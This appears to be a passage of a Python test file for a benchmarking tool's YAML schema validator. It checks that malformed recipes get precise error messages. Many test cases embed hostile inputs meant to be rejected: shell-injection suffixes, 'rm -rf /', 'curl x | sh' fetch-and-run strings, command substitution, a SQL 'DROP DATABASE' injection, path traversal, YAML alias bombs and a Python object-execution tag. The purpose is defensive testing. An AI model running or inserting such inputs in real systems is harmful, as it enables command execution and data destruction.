"""Schema validation: every shipped file is valid; malformed files get precise messages."""

from __future__ import annotations

import shutil
from pathlib import Path

import pytest
import yaml

from aibench.errors import ConfigError
from aibench.recipes import load_any, load_experiment, load_plan
from aibench.recipes.validation import load_yaml
from aibench.services import SERVICES

ROOT = Path(__file__).resolve().parents[2]
EXPERIMENTS = ROOT / "recipes" / "experiments"


@pytest.fixture
def recipes(tmp_path: Path) -> Path:
    """A copy of the project's recipes that a test may break."""
    target = tmp_path / "recipes"
    shutil.copytree(ROOT / "recipes", target)
    return target


def write(path: Path, data: object) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(data if isinstance(data, str) else yaml.safe_dump(data))
    return path


def test_every_shipped_file_is_valid(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    monkeypatch.setenv("AIBENCH_SCRATCH", str(tmp_path))  # MeluXina's scratch, in the vllm recipe's paths
    files = [ROOT / "config" / "config.yaml", *sorted((ROOT / "recipes").glob("*/*.yaml"))]
    assert len(files) >= 5
    for path in files:
        assert load_any(path)


def test_defaults_are_filled_in(recipes: Path) -> None:
    exp = load_experiment(recipes / "experiments" / "redis-default.yaml", recipes)
    assert exp.repeats == 1
    assert exp.service.ready_timeout_s == 30
    assert exp.client.params["keyspace"] == 100000
    assert exp.service.params["maxmemory_policy"] == "noeviction"


GOOD_EXPERIMENT = {
    "service": "redis",
    "client": "redis-benchmark",
    "sweep": {"clients": [1, 10]},
}
LLM_EXPERIMENT = {"service": "llamacpp", "client": "llm"}
SHELL = "; touch /tmp/aibench-PWNED"  # what an injected command would look like
UP = "../" * 40  # from any working directory, up to the filesystem root

# (what is broken, file (relative to recipes/ or "config"), content, expected fragments of the message).
# Content is a mapping (written as YAML) or the file's text. Each test runs in a fresh copy of the
# recipes whose parent is the working directory; the config lists an experiment that uses the file.
MALFORMED = [
    (
        "config without experiments",
        "config",
        {"results": "r"},
        ["field '(top level)'", "'experiments' is a required property"],
    ),
    (
        "experiments not a list",
        "config",
        {"experiments": "redis-default"},
        ["field 'experiments'", "is not of type 'array'"],
    ),
    (
        "unknown config key",
        "config",
        {"experiments": ["redis-default"], "experimnts": 1},
        ["field '(top level)'", "unknown field(s) 'experimnts'", "allowed:"],
    ),
    (
        "scrape interval too small",
        "config",
        {"experiments": ["redis-default"], "monitoring": {"scrape_interval_s": 0.1}},
        ["field 'monitoring.scrape_interval_s'", "less than the minimum of 0.5"],
    ),
    (
        "shell in experiment name",
        "config",
        {"experiments": ["x; rm -rf /"]},
        ["field 'experiments[0]'", "does not match the allowed form"],
    ),
    (
        "missing experiment recipe",
        "config",
        {"experiments": ["nope"]},
        [
            "field 'experiments[0]'",
            "no experiment recipe 'nope'",
            f"available: {', '.join(sorted(p.stem for p in EXPERIMENTS.glob('*.yaml')))}",
        ],
    ),
    (
        "reserved experiment name",
        "config",
        {"experiments": ["monitoring"]},
        ["field 'experiments[0]'", "reserved"],
    ),
    (
        "unknown launcher",
        "config",
        {"experiments": ["redis-default"], "launcher": "pbs"},
        ["field 'launcher'", "'pbs' is not one of ['local', 'slurm']"],
    ),
    (
        "unknown service kind",
        "services/redis.yaml",
        {"kind": "memcached"},
        [
            "services/redis.yaml: field 'kind'",
            "unknown service kind 'memcached'",
            f"known: {', '.join(sorted(SERVICES.names()))}",
        ],
    ),
    (
        "service param of wrong type",
        "services/redis.yaml",
        {"kind": "redis", "params": {"io_threads": "four"}},
        ["field 'params.io_threads'", "'four' is not of type 'integer'"],
    ),
    (
        "negative readiness timeout",
        "services/redis.yaml",
        {"kind": "redis", "readiness": {"timeout_s": -1}},
        ["field 'readiness.timeout_s'", "less than or equal to the minimum of 0"],
    ),
    (
        "unknown service param",
        "services/redis.yaml",
        {"kind": "redis", "params": {"save": "60 1"}},
        ["field 'params'", "unknown field(s) 'save'"],
    ),
    (
        "zero clients",
        "clients/redis-benchmark.yaml",
        {"kind": "redis-benchmark", "params": {"clients": 0}},
        ["clients/redis-benchmark.yaml: field 'params.clients'", "less than the minimum of 1"],
    ),
    (
        "shell in tests",
        "clients/redis-benchmark.yaml",
        {"kind": "redis-benchmark", "params": {"tests": "get;flushall"}},
        ["field 'params.tests'", "'get;flushall' does not match"],
    ),
    (
        "unknown client kind",
        "clients/redis-benchmark.yaml",
        {"kind": "wrk"},
        ["field 'kind'", "unknown client kind 'wrk'"],
    ),
    (
        "experiment without client",
        "experiments/redis-default.yaml",
        {"service": "redis"},
        ["experiments/redis-default.yaml: field '(top level)'", "'client' is a required property"],
    ),
    (
        "service sweep of an unknown parameter",
        "experiments/redis-default.yaml",
        {**GOOD_EXPERIMENT, "service_sweep": {"bogus": [1, 2]}},
        ["field 'service_sweep.bogus'", "not a parameter of service kind 'redis'", "io_threads", "gpus"],
    ),
    (
        "service sweep value outside the kind's schema",
        "experiments/redis-default.yaml",
        {**GOOD_EXPERIMENT, "service_sweep": {"io_threads": [1, 0]}},
        ["field 'service_sweep.io_threads[1]'", "0 is less than the minimum of 1"],
    ),
    (
        "service sweep of a resource beyond its schema",
        "experiments/redis-default.yaml",
        {**GOOD_EXPERIMENT, "service_sweep": {"cpus": [1, 999]}},
        ["field 'service_sweep.cpus[1]'", "999 is greater than the maximum of 256"],
    ),
    (
        "service sweep asking the local launcher for GPUs",
        "experiments/redis-default.yaml",
        {**GOOD_EXPERIMENT, "service_sweep": {"gpus": [0, 1]}},
        ["field 'service_sweep.gpus'", "1 GPU(s) asked for, but the local launcher"],
    ),
    (
        "linked lists of unequal length",
        "experiments/redis-default.yaml",
        {**GOOD_EXPERIMENT, "service_sweep": {"io_threads": [1, 2], "cpus": [1, 2, 4]},
         "link": [["io_threads", "cpus"]]},
        ["field 'link[0]'", "service_sweep.io_threads has 2, service_sweep.cpus has 3 values",
         "equal length"],
    ),
    (
        "link of a parameter not swept",
        "experiments/redis-default.yaml",
        {**GOOD_EXPERIMENT, "service_sweep": {"io_threads": [1, 2]}, "link": [["io_threads", "maxclients"]]},
        ["field 'link[0]'", "'maxclients' is not in service_sweep"],
    ),
    (
        "parameter in two links",
        "experiments/redis-default.yaml",
        {**GOOD_EXPERIMENT, "service_sweep": {"io_threads": [1, 2], "cpus": [1, 2], "mem_mb": [500, 900]},
         "link": [["io_threads", "cpus"], ["mem_mb", "io_threads"]]},
        ["field 'link[1]'", "'io_threads' is linked in link[0] already"],
    ),
    (
        "no deployment at once",
        "experiments/redis-default.yaml",
        {**GOOD_EXPERIMENT, "parallel_deployments": 0},
        ["field 'parallel_deployments'", "0 is less than the minimum of 1"],
    ),
    (
        "replicas of a service that keeps data",
        "experiments/redis-default.yaml",
        {**GOOD_EXPERIMENT, "replicas": 2},
        ["field 'replicas'", "service kind 'redis' keeps data of its own", "stateless"],
    ),
    (
        "swept replicas of a service that keeps data",
        "experiments/redis-default.yaml",
        {**GOOD_EXPERIMENT, "service_sweep": {"replicas": [1, 2]}},
        ["field 'service_sweep.replicas'", "service kind 'redis' keeps data of its own"],
    ),
    (
        "replicas of a service on its node's loopback",
        "experiments/llm-concurrency.yaml",
        {"service": "ollama", "client": "llm", "replicas": 2, "service_params": {"models_dir": "/srv/m"}},
        ["field 'replicas'", "service kind 'ollama' listens on its node's loopback only"],
    ),
    (
        "client nodes for a client that runs from one node",
        "experiments/mysql-threads.yaml",
        {"service": "mysql", "client": "sysbench", "client_nodes": 2},
        ["field 'client_nodes'", "client kind 'sysbench' runs from one node only", "llm, redis-benchmark"],
    ),
    (
        "fewer redis connections than client nodes",
        "experiments/redis-default.yaml",
        {**GOOD_EXPERIMENT, "client_nodes": 3},
        ["field 'sweep.clients'", "at point clients-1_r0", "1 clients cannot be split over 3 client nodes"],
    ),
    (
        "client nodes for an SLO search",
        "experiments/llm-concurrency.yaml",
        {**LLM_EXPERIMENT, "client_nodes": 2, "client_params": {"search": "concurrency", "slo_ttft_ms": 500}},
        ["field 'client_params.search'", "an SLO search runs its trials one after another",
         "client_nodes: 2"],
    ),
    (
        "fewer streams than client nodes",
        "experiments/llm-concurrency.yaml",
        {**LLM_EXPERIMENT, "client_nodes": 4, "sweep": {"concurrency": [2, 8]}},
        ["field 'sweep.concurrency'", "at point concurrency-2_r0",
         "2 streams cannot be split over 4 client nodes"],
    ),
    (
        "client nodes for a service on its node's loopback",
        "experiments/llm-concurrency.yaml",
        {"service": "ollama", "client": "llm", "client_nodes": 2, "service_params": {"models_dir": "/srv/m"}},
        ["field 'client_nodes'", "service kind 'ollama' listens on its node's loopback only"],
    ),
    (
        "no client node",
        "experiments/llm-concurrency.yaml",
        {**LLM_EXPERIMENT, "client_nodes": 0},
        ["field 'client_nodes'", "0 is less than the minimum of 1"],
    ),
    (
        "replicas given twice",
        "experiments/llm-concurrency.yaml",
        {**LLM_EXPERIMENT, "replicas": 2, "service_sweep": {"replicas": [1, 2]}},
        ["field 'replicas'", "service_sweep.replicas sets them per deployment"],
    ),
    (
        "no replica",
        "experiments/llm-concurrency.yaml",
        {**LLM_EXPERIMENT, "service_sweep": {"replicas": [2, 0]}},
        ["field 'service_sweep.replicas[1]'", "0 is less than the minimum of 1"],
    ),
    (
        "negative sweep value",
        "experiments/redis-default.yaml",
        {**GOOD_EXPERIMENT, "sweep": {"clients": [1, -5]}},
        ["field 'sweep.clients[1]'", "-5 is less than the minimum of 1"],
    ),
    (
        "sweep of unknown parameter",
        "experiments/redis-default.yaml",
        {**GOOD_EXPERIMENT, "sweep": {"bogus": [1]}},
        ["field 'sweep.bogus'", "not a parameter of client kind 'redis-benchmark'"],
    ),
    (
        "zero repeats",
        "experiments/redis-default.yaml",
        {**GOOD_EXPERIMENT, "repeats": 0},
        ["field 'repeats'", "less than the minimum of 1"],
    ),
    (
        "override of wrong type",
        "experiments/redis-default.yaml",
        {**GOOD_EXPERIMENT, "client_params": {"pipeline": "16x"}},
        ["field 'client_params.pipeline'", "'16x' is not of type 'integer'"],
    ),
    (
        "missing service recipe",
        "experiments/redis-default.yaml",
        {**GOOD_EXPERIMENT, "service": "nope"},
        ["field 'service'", "no service recipe 'nope'"],
    ),
    (
        "empty sweep list",
        "experiments/redis-default.yaml",
        {**GOOD_EXPERIMENT, "sweep": {"clients": []}},
        ["field 'sweep.clients'", "should be non-empty"],
    ),
    (
        "duplicate sweep values",
        "experiments/redis-default.yaml",
        {**GOOD_EXPERIMENT, "sweep": {"clients": [5, 5]}},
        ["field 'sweep.clients'", "non-unique"],
    ),
    (
        "YAML syntax error",
        "experiments/redis-default.yaml",
        "service: redis\nclient: [unclosed\n",
        ["experiments/redis-default.yaml: not valid YAML (line"],
    ),
    (
        "empty file",
        "experiments/redis-default.yaml",
        "",
        ["field '(top level)'", "expected a mapping of fields, found empty"],
    ),
    (
        "unauthenticated service on another node",
        "experiments/redis-default.yaml",
        {"service": "ollama", "client": "llm", "placement": "other-node"},
        ["field 'placement'", "no authentication"],
    ),
    # --- the config ---
    (
        "config not a mapping",
        "config",
        "- redis-default\n",
        ["field '(top level)'", "expected a mapping of fields, found a list"],
    ),
    (
        "empty experiment list",
        "config",
        {"experiments": []},
        ["field 'experiments'", "should be non-empty"],
    ),
    (
        "duplicated experiment",
        "config",
        {"experiments": ["redis-default", "redis-default"]},
        ["field 'experiments'", "has non-unique elements"],
    ),
    (
        "config key set twice",
        "config",
        "experiments: [redis-default]\nresults: r1\nresults: r2\n",
        ["not valid YAML (line 3, column 1)", "field 'results' is set twice (first on line 2)"],
    ),
    (
        "non-string config key",
        "config",
        "experiments: [redis-default]\n1: x\n",
        ["field '(top level)'", "unknown field(s) 1; allowed:"],
    ),
    (
        "string for a number",
        "config",
        {"experiments": ["redis-default"], "monitoring": {"scrape_interval_s": "1s"}},
        ["field 'monitoring.scrape_interval_s'", "'1s' is not of type 'number'"],
    ),
    (
        "negative queue timeout",
        "config",
        {"experiments": ["redis-default"], "slurm": {"queue_timeout_s": -5}},
        ["field 'slurm.queue_timeout_s'", "-5 is less than or equal to the minimum of 0"],
    ),
    (
        "command substitution in experiment name",
        "config",
        {"experiments": ["$(touch /tmp/aibench-PWNED)"]},
        ["field 'experiments[0]'", "'$(touch /tmp/aibench-PWNED)' does not match the allowed form"],
    ),
    (
        "backticks in experiment name",
        "config",
        {"experiments": ["redis-default", "`id`"]},
        ["field 'experiments[1]'", "'`id`' does not match the allowed form"],
    ),
    (
        "space in experiment name",
        "config",
        {"experiments": ["redis default"]},
        ["field 'experiments[0]'", "'redis default' does not match the allowed form"],
    ),
    (
        "experiment name escaping the results directory",
        "config",
        {"experiments": ["../../etc"]},
        ["field 'experiments[0]'", "'../../etc' does not match the allowed form"],
    ),
    (
        "shell in results",
        "config",
        {"experiments": ["redis-default"], "results": "results" + SHELL},
        ["field 'results'", "does not match the allowed form"],
    ),
    (
        "results at the filesystem root",
        "config",
        {"experiments": ["redis-default"], "results": "/"},
        ["field 'results'", "'/' is the filesystem root or a top-level directory"],
    ),
    (
        "results in a system directory",
        "config",
        {"experiments": ["redis-default"], "results": "/etc/aibench"},
        ["field 'results'", "'/etc/aibench' is in the system directory /etc"],
    ),
    (
        "results escaping into a system directory",
        "config",
        {"experiments": ["redis-default"], "results": UP + "usr/share/aibench"},
        ["field 'results'", "(/usr/share/aibench) is in the system directory /usr"],
    ),
    (
        "results in the working directory itself",
        "config",
        {"experiments": ["redis-default"], "results": "."},
        ["field 'results'", "is the working or workflow directory", "the run's experiment folders would mix"],
    ),
    (
        "newline in results",
        "config",
        {"experiments": ["redis-default"], "results": "results\n"},
        ["field 'results'", "'results\\n' holds the control character '\\n'"],
    ),
    (
        "shell in sbatch options",
        "config",
        {"experiments": ["redis-default"], "slurm": {"sbatch_extra": ["--exclusive" + SHELL]}},
        ["field 'slurm.sbatch_extra[0]'", "does not match the allowed form"],
    ),
    (
        "shell in module name",
        "config",
        {"experiments": ["redis-default"], "slurm": {"modules": ["Apptainer/1.3 && curl x | sh"]}},
        ["field 'slurm.modules[0]'", "does not match the allowed form"],
    ),
    # --- service recipes ---
    (
        "service recipe not a mapping",
        "services/redis.yaml",
        "- kind: redis\n",
        ["services/redis.yaml: field '(top level)'", "expected a mapping of fields, found a list"],
    ),
    (
        "unknown service recipe key",
        "services/redis.yaml",
        {"kind": "redis", "readyness": {"timeout_s": 5}},
        ["field '(top level)'", "unknown field(s) 'readyness'", "allowed: description, image, kind"],
    ),
    (
        "unknown resource key",
        "services/redis.yaml",
        {"kind": "redis", "resources": {"gpu": 1}},
        ["field 'resources'", "unknown field(s) 'gpu'", "allowed: constraint, cpus, gpus"],
    ),
    (
        "float for an integer",
        "services/redis.yaml",
        {"kind": "redis", "resources": {"cpus": 1.5}},
        ["field 'resources.cpus'", "1.5 is not of type 'integer'"],
    ),
    (
        "absurd memory",
        "services/redis.yaml",
        {"kind": "redis", "resources": {"mem_mb": 10**12}},
        ["field 'resources.mem_mb'", "1000000000000 is greater than the maximum of 4194304"],
    ),
    (
        "negative stop grace",
        "services/redis.yaml",
        {"kind": "redis", "stop": {"grace_s": -1}},
        ["field 'stop.grace_s'", "-1 is less than the minimum of 0"],
    ),
    (
        "NaN timeout",
        "services/redis.yaml",
        "kind: redis\nreadiness:\n  timeout_s: .nan\n",
        ["field 'readiness.timeout_s'", "nan is not a finite number"],
    ),
    (
        "service param set twice",
        "services/redis.yaml",
        "kind: redis\nparams:\n  io_threads: 2\n  io_threads: 4\n",
        ["not valid YAML (line 4, column 3)", "field 'io_threads' is set twice (first on line 3)"],
    ),
    (
        "shell in image",
        "services/redis.yaml",
        {"kind": "redis", "image": "docker://redis:7" + SHELL},
        ["field 'image'", "does not match the allowed form"],
    ),
    (
        "command substitution in partition",
        "services/redis.yaml",
        {"kind": "redis", "resources": {"partition": "cpu$(id)"}},
        ["field 'resources.partition'", "'cpu$(id)' does not match the allowed form"],
    ),
    (
        "trailing newline in partition",
        "services/redis.yaml",
        {"kind": "redis", "resources": {"partition": "cpu\n"}},
        ["field 'resources.partition'", "'cpu\\n' holds the control character '\\n'", "span lines"],
    ),
    (
        "SQL and shell in database name",
        "services/mysql.yaml",
        {"kind": "mysql", "params": {"database": "sbtest`; DROP DATABASE mysql; `"}},
        ["services/mysql.yaml: field 'params.database'", "does not match the allowed form"],
    ),
    (
        "absurd max connections",
        "services/mysql.yaml",
        {"kind": "mysql", "params": {"max_connections": 10**9}},
        ["field 'params.max_connections'", "1000000000 is greater than the maximum of 100000"],
    ),
    (
        "backticks in model alias",
        "services/llamacpp.yaml",
        {"kind": "llamacpp", "params": {"model_alias": "smol`id`"}},
        ["services/llamacpp.yaml: field 'params.model_alias'", "'smol`id`' does not match"],
    ),
    # --- client recipes ---
    (
        "unknown client recipe key",
        "clients/redis-benchmark.yaml",
        {"kind": "redis-benchmark", "timeout": 60},
        [
            "field '(top level)'",
            "unknown field(s) 'timeout'",
            "allowed: description, kind, params, timeout_s",
        ],
    ),
    (
        "string client timeout",
        "clients/redis-benchmark.yaml",
        {"kind": "redis-benchmark", "timeout_s": "900"},
        ["field 'timeout_s'", "'900' is not of type 'number'"],
    ),
    (
        "negative client timeout",
        "clients/redis-benchmark.yaml",
        {"kind": "redis-benchmark", "timeout_s": -5},
        ["field 'timeout_s'", "-5 is less than or equal to the minimum of 0"],
    ),
    (
        "zero requests",
        "clients/redis-benchmark.yaml",
        {"kind": "redis-benchmark", "params": {"requests": 0}},
        ["field 'params.requests'", "0 is less than the minimum of 1"],
    ),
    (
        "client recipe syntax error",
        "clients/redis-benchmark.yaml",
        "kind: redis-benchmark\nparams: {clients: 5\n",
        ["clients/redis-benchmark.yaml: not valid YAML (line 3"],
    ),
    (
        "shell in model",
        "clients/llm.yaml",
        {"kind": "llm", "params": {"model": "smollm2" + SHELL}},
        ["clients/llm.yaml: field 'params.model'", "does not match the allowed form"],
    ),
    (
        "command substitution in prompt file",
        "clients/llm.yaml",
        {"kind": "llm", "params": {"prompt_file": "$(curl evil)/prompts.txt"}},
        ["field 'params.prompt_file'", "does not match the allowed form"],
    ),
    (
        "zero rate",
        "clients/llm.yaml",
        {"kind": "llm", "params": {"mode": "open", "rate": 0}},
        ["field 'params.rate'", "0 is less than or equal to the minimum of 0"],
    ),
    (
        "absurd concurrency",
        "clients/llm.yaml",
        {"kind": "llm", "params": {"concurrency": 10**9}},
        ["field 'params.concurrency'", "1000000000 is greater than the maximum of 4096"],
    ),
    (
        "neither requests nor duration",
        "clients/llm.yaml",
        {"kind": "llm", "params": {"requests": 0}},
        ["field 'params.duration_s'", "0 is less than or equal to the minimum of 0", "must then be set"],
    ),
    (
        "backticks in dataset file",
        "clients/chroma.yaml",
        {"kind": "chroma", "params": {"dataset": "file", "dataset_file": "`id`.npz"}},
        ["clients/chroma.yaml: field 'params.dataset_file'", "'`id`.npz' does not match"],
    ),
    (
        "file dataset without a file",
        "clients/chroma.yaml",
        {"kind": "chroma", "params": {"dataset": "file"}},
        ["field 'params.dataset_file'", "should be non-empty", "names the .npz to read"],
    ),
    # --- experiment recipes ---
    (
        "experiment without service",
        "experiments/redis-default.yaml",
        {"client": "redis-benchmark"},
        ["field '(top level)'", "'service' is a required property"],
    ),
    (
        "unknown experiment key",
        "experiments/redis-default.yaml",
        {**GOOD_EXPERIMENT, "sweeps": {"clients": [1]}},
        ["field '(top level)'", "unknown field(s) 'sweeps'", "allowed: client, client_nodes, client_params"],
    ),
    (
        "experiment key set twice",
        "experiments/redis-default.yaml",
        "service: redis\nclient: redis-benchmark\nrepeats: 1\nrepeats: 3\n",
        ["not valid YAML (line 4, column 1)", "field 'repeats' is set twice (first on line 3)"],
    ),
    (
        "float sweep value for an integer",
        "experiments/redis-default.yaml",
        {**GOOD_EXPERIMENT, "sweep": {"clients": [1, 2.5]}},
        ["field 'sweep.clients[1]'", "2.5 is not of type 'integer'"],
    ),
    (
        "string sweep value for a number",
        "experiments/redis-default.yaml",
        {**GOOD_EXPERIMENT, "sweep": {"clients": ["ten"]}},
        ["field 'sweep.clients[0]'", "'ten' is not of type 'integer'"],
    ),
    (
        "sweep value above the maximum",
        "experiments/redis-default.yaml",
        {**GOOD_EXPERIMENT, "sweep": {"clients": [1, 10**9]}},
        ["field 'sweep.clients[1]'", "1000000000 is greater than the maximum of 10000"],
    ),
    (
        "swept value breaking a rule between parameters",
        "experiments/redis-default.yaml",
        {**LLM_EXPERIMENT, "sweep": {"requests": [8, 0]}},
        [
            "field 'sweep.requests[1]': with this value, field 'duration_s': 0 is less than or equal",
            "must then be set",
        ],
    ),
    (
        "sweep not a mapping",
        "experiments/redis-default.yaml",
        {**GOOD_EXPERIMENT, "sweep": ["clients"]},
        ["field 'sweep'", "['clients'] is not of type 'object'"],
    ),
    (
        "NaN override",
        "experiments/redis-default.yaml",
        "service: llamacpp\nclient: llm\nclient_params:\n  mode: open\n  rate: .nan\n",
        ["field 'client_params.rate'", "nan is not a finite number"],
    ),
    (
        "absurd repeats",
        "experiments/redis-default.yaml",
        {**GOOD_EXPERIMENT, "repeats": 1000},
        ["field 'repeats'", "1000 is greater than the maximum of 100"],
    ),
    (
        "swept prepare-only parameter",
        "experiments/redis-default.yaml",
        {"service": "mysql", "client": "sysbench", "sweep": {"tables": [1, 2]}},
        ["field 'sweep.tables'", "it cannot be swept"],
    ),
    (
        "sweep of a service parameter",
        "experiments/redis-default.yaml",
        {**GOOD_EXPERIMENT, "sweep": {"io_threads": [1, 4]}},
        ["field 'sweep.io_threads'", "not a parameter of client kind 'redis-benchmark'", "known: clients"],
    ),
    (
        "unknown service override",
        "experiments/redis-default.yaml",
        {**GOOD_EXPERIMENT, "service_params": {"save": "60 1"}},
        ["field 'service_params'", "unknown field(s) 'save'"],
    ),
    (
        "shell in service recipe name",
        "experiments/redis-default.yaml",
        {**GOOD_EXPERIMENT, "service": "redis" + SHELL},
        ["field 'service'", "does not match the allowed form"],
    ),
    (
        "path in client recipe name",
        "experiments/redis-default.yaml",
        {**GOOD_EXPERIMENT, "client": "../../clients/redis-benchmark"},
        ["field 'client'", "'../../clients/redis-benchmark' does not match the allowed form"],
    ),
    (
        "shell in sweep parameter name",
        "experiments/redis-default.yaml",
        {**GOOD_EXPERIMENT, "sweep": {"clients$(id)": [1]}},
        ["field 'sweep'", "'clients$(id)' does not match the allowed form"],
    ),
    (
        "shell in a swept string",
        "experiments/redis-default.yaml",
        {**LLM_EXPERIMENT, "sweep": {"model": ["smollm2", "x`id`"]}},
        ["field 'sweep.model[1]'", "'x`id`' does not match the allowed form"],
    ),
    (
        "shell in a service override",
        "experiments/redis-default.yaml",
        {"service": "vllm", "client": "llm", "service_params": {"model": "Qwen/Qwen2.5" + SHELL}},
        ["field 'service_params.model'", "does not match the allowed form"],
    ),
    (
        "tab in an override",
        "experiments/redis-default.yaml",
        {**GOOD_EXPERIMENT, "client_params": {"tests": "get\tset"}},
        ["field 'client_params.tests'", "holds the control character '\\t'"],
    ),
    (
        "client for another service kind",
        "experiments/redis-default.yaml",
        {"service": "redis", "client": "llm"},
        ["field 'client'", "client kind 'llm' (recipe 'llm') drives service kinds", "not 'redis'"],
    ),
    (
        "sweep values with the same point id",
        "experiments/redis-default.yaml",
        {**LLM_EXPERIMENT, "sweep": {"model": ["org/model", "org:model"]}},
        ["field 'sweep.model'", "'org/model' and 'org:model' give the same point id 'model-org+model'"],
    ),
    (
        "too many points",
        "experiments/redis-default.yaml",
        {
            **LLM_EXPERIMENT,
            "sweep": {"concurrency": list(range(1, 65)), "max_tokens": list(range(1, 65))},
            "repeats": 3,
        },
        ["field 'sweep'", "64 concurrency x 64 max_tokens x 3 repeats make 12288 points", "more than"],
    ),
    (
        "unknown placement",
        "experiments/redis-default.yaml",
        {**GOOD_EXPERIMENT, "placement": "any-node"},
        ["field 'placement'", "'any-node' is not one of ['same-node', 'other-node']"],
    ),
    # issue 13: outside-corpus classes (accepted although wrong, hangs, surprising YAML)
    (
        "search_low above search_high",
        "experiments/redis-default.yaml",
        {**LLM_EXPERIMENT, "client_params": {"search": "rate", "search_low": 50, "search_high": 5}},
        ["field 'client_params.search_low'", "50 is not below search_high (5)"],
    ),
    (
        "swept search_high below search_low",
        "experiments/redis-default.yaml",
        {**LLM_EXPERIMENT, "client_params": {"search": "concurrency"}, "sweep": {"search_high": [0.5, 8]}},
        ["field 'sweep.search_high'", "at point search_high-0.5_r0", "not below search_high (0.5)"],
    ),
    (
        "llama.cpp physical batch above its logical batch",
        "services/llamacpp.yaml",
        {"kind": "llamacpp", "params": {"n_batch": 256, "n_ubatch": 512}},
        ["services/llamacpp.yaml: field 'params.n_ubatch'", "512 is larger than n_batch (256)"],
    ),
    (
        "experiment's llama.cpp physical batch above the recipe's logical batch",
        "experiments/redis-default.yaml",
        {**LLM_EXPERIMENT, "service_params": {"n_ubatch": 1024}},
        ["experiments/redis-default.yaml: field 'service_params.n_ubatch'",
         "1024 is larger than n_batch (512)"],
    ),
    (
        "readiness interval longer than its timeout",
        "services/redis.yaml",
        {"kind": "redis", "readiness": {"timeout_s": 5, "interval_s": 30}},
        ["field 'readiness.interval_s'", "30 s is longer than readiness.timeout_s (5 s)"],
    ),
    (
        "timed load longer than its time limit",
        "experiments/redis-default.yaml",
        {**LLM_EXPERIMENT, "client_params": {"requests": 0, "duration_s": 3600}},
        ["field 'client_params.duration_s'", "runs 3600 s, longer than the client's timeout_s of 900 s"],
    ),
    (
        "YAML 1.1 octal repeats",
        "experiments/redis-default.yaml",
        "service: redis\nclient: redis-benchmark\nrepeats: 010\n",
        ["not valid YAML (line 3", "'010' is read by YAML 1.1 as a number other than it looks"],
    ),
    (
        "YAML 1.1 base-60 number",
        "experiments/redis-default.yaml",
        "service: redis\nclient: redis-benchmark\nclient_params: {clients: 1:30}\n",
        ["not valid YAML (line 3", "'1:30' is read by YAML 1.1"],
    ),
    (
        "alias bomb under client_params",
        "experiments/redis-default.yaml",
        "service: redis\nclient: redis-benchmark\nclient_params:\n  bomb:\n"
        + "".join(
            f"    a{i}: &a{i} [{', '.join([f'*a{i - 1}'] * 10) if i else 'x, x, x, x, x, x, x, x, x, x'}]\n"
            for i in range(9)
        ),
        [
            "field 'client_params.bomb'",
            "YAML document expands to",
            "(its aliases repeat nodes), more than the 100000",
        ],
    ),
    (
        "alias bomb under a service's params",
        "services/redis.yaml",
        "kind: redis\nparams:\n  bomb:\n"
        + "".join(
            f"    a{i}: &a{i} [{', '.join([f'*a{i - 1}'] * 10) if i else 'x, x, x, x, x, x, x, x, x, x'}]\n"
            for i in range(9)
        ),
        ["field 'params.bomb'", "YAML document expands to", "more than the 100000"],
    ),
    (
        "alias referring to itself",
        "services/redis.yaml",
        "kind: redis\nparams: &p\n  again: *p\n",
        ["not valid YAML (line 2", "an alias refers to the node holding it"],
    ),
    (
        "YAML tag",
        "services/redis.yaml",
        "kind: redis\nparams: !!python/object/apply:os.system [id]\n",
        ["not valid YAML (line 2", "could not determine a constructor"],
    ),
    (
        "YTE templating in a config",
        "config",
        {"experiments": ["redis-default"], "__use_yte__": True},
        ["field '__use_yte__': YTE templating is refused", "data, not code"],
    ),
    (
        "unset environment variable in a path parameter",
        "experiments/redis-default.yaml",
        {"service": "ollama", "client": "llm", "service_params": {"models_dir": "${AIBENCH_NO_SUCH_VAR}/m"}},
        [
            "field 'service_params.models_dir'",
            "$AIBENCH_NO_SUCH_VAR is not set",
            "literal '${AIBENCH_NO_SUCH_VAR}'",
        ],
    ),
    (
        "unset environment variable in the image directory",
        "config",
        {"experiments": ["redis-default"], "apptainer": {"image_dir": "${AIBENCH_NO_SUCH_VAR}/images"}},
        ["field 'apptainer.image_dir'", "$AIBENCH_NO_SUCH_VAR is not set"],
    ),
    (
        "malformed variable reference",
        "config",
        {"experiments": ["redis-default"], "apptainer": {"image_dir": "${}/images"}},
        ["field 'apptainer.image_dir'", "'${}' is not a variable reference"],
    ),
    (
        "bind to every interface",
        "config",
        {"experiments": ["redis-default"], "slurm": {"bind": "0.0.0.0"}},
        ["field 'slurm.bind'", "would listen on every interface"],
    ),
    (
        "bind to no address",
        "config",
        {"experiments": ["redis-default"], "slurm": {"bind": "999.1.2.3"}},
        ["field 'slurm.bind'", "'999.1.2.3' is not an IP address"],
    ),
    (
        "bind to loopback under SLURM",
        "config",
        {
            "experiments": ["redis-default"],
            "launcher": "slurm",
            "slurm": {"bind": "127.0.0.1", "account": "p1"},
        },
        ["field 'slurm.bind'", "reachable on the service's own node only"],
    ),
    (
        "bind to multicast",
        "config",
        {"experiments": ["redis-default"], "slurm": {"bind": "224.0.0.1"}},
        ["field 'slurm.bind'", "multicast or broadcast"],
    ),
    (
        "GPUs on the local launcher",
        "services/redis.yaml",
        {"kind": "redis", "resources": {"gpus": 1}},
        ["field 'resources.gpus'", "the local launcher neither allocates nor isolates GPUs"],
    ),
    (
        "results inside the recipes",
        "config",
        {"experiments": ["redis-default"], "results": "recipes/run1"},
        ["field 'results'", "inside the project's own 'recipes'"],
    ),
    (
        "results inside .git",
        "config",
        {"experiments": ["redis-default"], "results": ".git/run1"},
        ["field 'results'", "inside the project's own '.git'"],
    ),
    (
        "results with an over-long component",
        "config",
        {"experiments": ["redis-default"], "results": "runs/" + "r" * 300},
        ["field 'results'", "has a component of 300 bytes", "more than 255"],
    ),
    (
        "experiment named like a results file",
        "config",
        {"experiments": ["summary.csv"]},
        ["field 'experiments[0]'", "'summary.csv' is reserved for the results layout"],
    ),
    (
        "experiment named provenance",
        "config",
        {"experiments": ["provenance"]},
        ["field 'experiments[0]'", "'provenance' is reserved", "manifest.json"],
    ),
    (
        "missing prompt file",
        "experiments/redis-default.yaml",
        {**LLM_EXPERIMENT, "client_params": {"prompt_file": "no/such/prompts.txt"}},
        ["field 'client_params.prompt_file'", "'no/such/prompts.txt' file not found"],
    ),
    (
        "vector dataset file that is a directory",
        "experiments/redis-default.yaml",
        {
            "service": "chroma",
